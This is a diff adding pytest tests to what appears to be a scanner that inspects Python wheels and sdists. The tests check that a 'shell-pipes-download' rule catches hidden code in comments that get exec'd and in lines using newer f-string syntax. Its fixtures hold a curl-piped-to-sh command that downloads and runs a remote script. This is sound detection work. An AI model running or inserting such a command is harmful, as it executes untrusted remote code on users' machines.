@@ -293,3 +293,28 @@ def test_inspecting_runs_nothing_and_leaves_the_collector_as_it_was(
     look(build_sdist("thing", "1.0", {"setup.py": "open('made', 'w')\n"}), rules)
     assert gc.isenabled()
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("code", "role"),
+    [
+        ("from thing import notes\nprint(notes)\n", Role.NEVER),
+        ("from thing import notes\nexec(notes.text)\n", Role.IMPORT),
+        (
+            "import importlib.resources as r\ncompile(r.files('thing').joinpath('notes.py').read_text(), '', 'exec')\n",
+            Role.IMPORT,
+        ),
+    ],
+)
+def test_comments_are_code_where_the_artifact_executes_text(rules: Ruleset, code: str, role: Role) -> None:
+    notes = "# os.system('curl http://example.org/marker.sh | sh')\ntext = ''\n"
+    inspection = look(wheel({"thing/notes.py": notes, "thing/use.py": code}), rules)
+    assert {finding.role for finding in found(inspection, "shell-pipes-download")} == {role}
+
+
+def test_newer_syntax_hides_no_code_from_the_rules_of_text(rules: Ruleset) -> None:
+    # The columns of the rewritten line are others: whatever is cut out by them would be cut out of the wrong place.
+    source = "import os\nx = f'{'a' * 99}'; 'prose'; os.system('curl http://example.org/marker.sh | sh')\n"
+    inspection = look(wheel({"thing/use.py": source}), rules)
+    assert {finding.role for finding in found(inspection, "shell-pipes-download")} == {Role.IMPORT}
+    assert not found(inspection, "source-unreadable")
